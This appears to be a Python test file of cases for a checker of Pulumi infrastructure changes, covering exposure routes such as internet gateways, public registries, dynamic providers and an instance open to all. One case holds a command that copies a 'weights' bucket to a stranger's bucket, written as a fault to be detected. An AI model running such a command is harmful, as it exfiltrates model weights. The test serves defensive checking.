"""Pulumi's own ways: other providers, components of others, commands, and what a state file holds beside resources."""

from __future__ import annotations

from tests.privacy_cases.case import fault, rule_only
from tests.privacy_cases.objects import box
from tests.privacy_cases.program import Change, add, ref
from tests.privacy_cases.values import EVERYWHERE, OWN, SAFE_MACHINE, STRANGERS_BUCKET, VPC

GATEWAY = "aws:ec2/internetGateway:InternetGateway"
WEST = {"provider": "urn:pulumi:local::paddock::pulumi:providers:aws::west::0123abcd"}


def component(type_: str, name: str) -> Change:
    return add(type_, name, by_engine={"custom": False})


CASES = [
    fault(
        "command that uploads the weights while the update runs",
        add("command:local:Command", create=f"aws s3 cp --recursive s3://weights s3://{STRANGERS_BUCKET}"),
    ),
    fault("dynamic provider, which runs any code", add("pulumi-python:dynamic:Resource", __provider="x")),
    fault(
        "image that is built and pushed to a public registry",
        add("docker:index/image:Image", imageName="docker.io/x/y:latest"),
    ),
    fault("internet gateway of the other AWS provider", add("aws-native:ec2:InternetGateway")),
    fault(
        "cluster with a public API below a component of others",
        component("eks:index:Cluster", "eks"),
        add(
            "aws:eks/cluster:Cluster",
            "eks-cluster",
            roleArn=f"arn:aws:iam::{OWN}:role/eks",
            vpcConfig={"subnetIds": ["subnet-0a1b2c3d4e5f60718"]},
        ),
    ),
    rule_only(
        "VPC of three tiers with NAT, as a component of others makes it by default",
        component("awsx:ec2:Vpc", "crosswalk"),
        add("aws:ec2/vpc:Vpc", "crosswalk", cidrBlock="10.70.0.0/16"),
        add(
            "aws:ec2/subnet:Subnet",
            "crosswalk-public",
            vpcId=ref("Vpc", "crosswalk"),
            cidrBlock="10.70.0.0/24",
            mapPublicIpOnLaunch=True,
        ),
        add(GATEWAY, "crosswalk", vpcId=ref("Vpc", "crosswalk")),
        add("aws:ec2/eip:Eip", "crosswalk"),
        add(
            "aws:ec2/natGateway:NatGateway",
            "crosswalk",
            subnetId=ref("Subnet", "crosswalk-public"),
            allocationId=ref("Eip", "crosswalk"),
        ),
    ),
    rule_only(
        "internet gateway in another region by a second provider",
        add("pulumi:providers:aws", "west", region="us-west-2", by_engine={"id": "0123abcd"}),
        add("aws:ec2/vpc:Vpc", "west", cidrBlock="10.71.0.0/16", by_engine=WEST),
        add(GATEWAY, "west", vpcId=ref("Vpc", "west"), by_engine=WEST),
    ),
    rule_only(
        "Deployment by tag below a chart's component",
        component("kubernetes:helm.sh/v4:Chart", "chart"),
        add(
            "kubernetes:apps/v1:Deployment",
            "chart:web",
            metadata={"name": "web", "namespace": "llama"},
            spec={
                "selector": {"matchLabels": {"app": "web"}},
                "template": {
                    "metadata": {"labels": {"app": "web"}},
                    "spec": {"containers": [box(image="nginx:latest")]},
                },
            },
        ),
    ),
    fault(
        "internet gateway that a hand-edited state calls a component",
        add(GATEWAY, vpcId=VPC, by_engine={"custom": False}),
    ),
    fault(
        "internet gateway that could not be deleted, and waits for it in the state",
        add(GATEWAY, vpcId=VPC, by_engine={"delete": True}),
    ),
    fault("internet gateway that is only read", add(GATEWAY, vpcId=VPC, by_engine={"external": True})),
    fault(
        "model on a plain machine with a public address, its port open to all, and no cluster",
        add("aws:ec2/vpc:Vpc", "v", cidrBlock="10.0.0.0/16", enableDnsSupport=False),
        add(GATEWAY, "g", vpcId=ref("Vpc", "v")),
        add("aws:ec2/subnet:Subnet", "s", vpcId=ref("Vpc", "v"), mapPublicIpOnLaunch=True),
        add(
            "aws:ec2/securityGroup:SecurityGroup",
            "open",
            vpcId=ref("Vpc", "v"),
            ingress=[{"protocol": "tcp", "fromPort": 8000, "toPort": 8000, "cidrBlocks": [EVERYWHERE]}],
        ),
        add(
            "aws:ec2/instance:Instance",
            "gpu",
            subnetId=ref("Subnet", "s"),
            associatePublicIpAddress=True,
            vpcSecurityGroupIds=[ref("SecurityGroup", "open")],
            **SAFE_MACHINE,
        ),
        base="empty",
    ),
]
